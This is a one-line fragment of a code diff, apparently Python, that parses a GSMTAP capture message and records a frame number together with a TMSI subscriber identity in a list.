+            self.identities.append((struct.unpack_from(">I", message, GSMTAP_OFFSET_FRAME_NUMBER)[0], tmsi))